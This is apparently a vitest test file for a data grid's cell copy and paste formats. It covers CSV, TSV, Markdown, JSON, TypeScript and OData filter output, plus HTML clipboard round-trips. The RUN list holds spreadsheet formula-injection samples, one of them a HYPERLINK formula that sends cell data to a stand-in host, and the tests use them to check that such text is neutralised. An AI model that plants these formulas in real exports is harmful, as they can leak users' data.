import { expect, test } from 'vitest';
import { finish } from '../../../base/cooperative-task.ts';
import { parseFilter } from '../../../filter/parser.ts';
import {
  binaryOf,
  booleanOf,
  doubleOf,
  type EdmValue,
  int32Of,
  int64Of,
  stringOf,
} from '../../../model/edm.ts';
import type { GridColumn } from '../../data-grid/grid-columns.ts';
import type { CopiedBlock } from '../../data-grid/grid-copy.ts';
import type { CopyFormat } from './cell-copy.ts';
import { countFormulas, formatCells, formatValues } from './cell-formats.ts';
import { filterOf } from './grid-key-range.ts';
import { readClipboard, readHtmlTable } from './paste-clipboard.ts';

const columns: readonly GridColumn[] = [
  { name: 'RowKey', kind: 'rowKey', types: ['Edm.String'] },
  { name: 'Note', kind: 'property', types: ['Edm.String'] },
  { name: 'Total', kind: 'property', types: ['Edm.Int64'] },
  { name: 'Paid', kind: 'property', types: ['Edm.Boolean'] },
];
const block: CopiedBlock = {
  columns,
  keys: [
    { partitionKey: "o'h", rowKey: '1' },
    { partitionKey: "o'h", rowKey: '2' },
  ],
  lines: [
    [stringOf('1'), stringOf('a, "b" | c\nd'), int64Of(9_007_199_254_740_993n), booleanOf(true)],
    [stringOf('2'), undefined, doubleOf(Number.NaN), undefined],
  ],
  isCut: false,
};
const origin = { endpoint: 'https://host/app/tables/demo', table: 'Orders' };

test.each<[CopyFormat, string]>([
  ['csv', 'RowKey,Note,Total,Paid\r\n1,"a, ""b"" | c\nd",9007199254740993,true\r\n2,,NaN,\r\n'],
  [
    'tsv',
    'RowKey\tNote\tTotal\tPaid\r\n1\t"a, ""b"" | c\nd"\t9007199254740993\ttrue\r\n2\t\tNaN\t\r\n',
  ],
  [
    'markdown',
    '| RowKey | Note | Total | Paid |\n| --- | --- | ---: | --- |\n' +
      '| 1 | a, "b" \\| c<br>d | 9007199254740993 | true |\n| 2 |  | NaN |  |\n',
  ],
  [
    'jsonLines',
    '{ "RowKey": "1", "Note": "a, \\"b\\" | c\\nd", "Total@odata.type": "Edm.Int64", "Total": "9007199254740993", "Paid": true }\n' +
      '{ "RowKey": "2", "Total@odata.type": "Edm.Double", "Total": "NaN" }\n',
  ],
  [
    'typescript',
    'const entities = [\n' +
      `  { rowKey: "1", Note: "a, \\"b\\" | c\\nd", Total: { type: 'Int64', value: "9007199254740993" }, Paid: true },\n` +
      `  { rowKey: "2", Total: { type: 'Double', value: "NaN" } },\n];\n`,
  ],
  ['filter', "PartitionKey eq 'o''h' and (RowKey eq '1' or RowKey eq '2')"],
])('%s', (format, text) => {
  expect(formatCells(block, format, origin)).toBe(text);
});

test("JSON equals the service's answer", () => {
  expect(JSON.parse(formatCells(block, 'json', origin))).toHaveLength(2);
});

test('a request reads one entity, or all of them by a filter', () => {
  const one = { ...block, keys: block.keys.slice(0, 1), lines: block.lines.slice(0, 1) };
  expect(formatCells(one, 'fetch', origin)).toContain(
    `https://host/app/tables/demo/Orders(PartitionKey='o''h',RowKey='1')?$select=Note%2CTotal%2CPaid`,
  );
  expect(formatCells(block, 'fetch', origin)).toContain('Orders()?$filter=PartitionKey%20eq');
});

test('the filter of several partitions is one that the language has', () => {
  const text = filterOf([
    { partitionKey: 'a', rowKey: '1' },
    { partitionKey: 'b', rowKey: "x'y" },
  ]);
  expect(text).toBe(
    "(PartitionKey eq 'a' and RowKey eq '1') or (PartitionKey eq 'b' and RowKey eq 'x''y')",
  );
  expect(() => parseFilter(text)).not.toThrow();
});

test('copied cells paste unchanged, to the last character', () => {
  const values: readonly (EdmValue | undefined)[] = [
    stringOf(' white  space \r\n<b>&amp;"\''),
    stringOf(''),
    undefined,
    int32Of(7),
    doubleOf(-0),
    binaryOf(Uint8Array.of(0, 255)),
  ];
  const read = finish(readHtmlTable(formatValues({ ...block, lines: [values] })));
  expect(read?.isExact).toBe(true);
  expect(read?.lines).toHaveLength(1);
  expect(read?.lines[0]?.map((cell) => cell?.value)).toEqual(values);
});

const RUN = ['=HYPERLINK("https://a.example/?"&A1,"b")', '+1', '-1+2', '@SUM(A1)', ' =1', '\t=1'];

test.each(RUN)('a spreadsheet takes %j for a text, and this program for what it was', (text) => {
  const html = formatValues(blockOf('Note', stringOf(text)));
  const [, style, number, reported = ''] =
    /<td style="([^"]*)" sdnum="([^"]*)" data-sheets-value="([^"]*)"/.exec(html) ?? [];
  expect(style).toBe("mso-number-format:'\\@'");
  expect(number).toBe('1033;0;@');
  expect(JSON.parse(reported.replaceAll('&quot;', '"').replaceAll('&amp;', '&'))).toEqual({
    1: 2,
    2: text,
  });
  const clipboard = { text: 'no matter', html };
  expect(finish(readClipboard(clipboard))?.lines).toEqual([[{ text, value: stringOf(text) }]]);
});

test('numbers for a spreadsheet are not marked as text', () => {
  expect(formatValues(blockOf('Total', doubleOf(-1.5)))).toContain('<td data-type="Edm.Double"');
});

test('texts that would be run are counted', () => {
  const [bytes, minus] = [binaryOf(Uint8Array.of(0xfb)), int32Of(-1)];
  const lines = [...RUN.map(stringOf), stringOf('a=1'), bytes, minus].map((value) => [value]);
  expect(countFormulas({ ...block, lines })).toBe(RUN.length + 1);
});

test('a text is no markup in Markdown', () => {
  const text = 'a_b *c* [d](e) ~f~ `g` <h> & i\\';
  const marked = formatCells(blockOf('Depth_km', stringOf(text)), 'markdown', origin);
  expect(marked.split('\n')[0]).toBe('| Depth\\_km |');
  expect(marked.split('\n')[2]).toBe(
    '| a\\_b \\*c\\* \\[d\\](e) \\~f\\~ \\`g\\` &lt;h&gt; &amp; i\\\\ |',
  );
});

test('a property named like the prototype is a member like any other', () => {
  expect(formatCells(blockOf('__proto__', int32Of(1)), 'typescript', origin)).toContain(
    '{ ["__proto__"]: 1 }',
  );
});

test('a space that does not break stays one', () => {
  const table = finish(readHtmlTable('<table><tr><td>1&nbsp;000 km</td></tr></table>'));
  expect(table?.lines[0]?.[0]?.text).toBe('1\u00a0000 km');
});

function blockOf(name: string, value: EdmValue): CopiedBlock {
  return {
    columns: [{ name, kind: 'property', types: [value.type] }],
    keys: [{ partitionKey: 'p', rowKey: '1' }],
    lines: [[value]],
    isCut: false,
  };
}
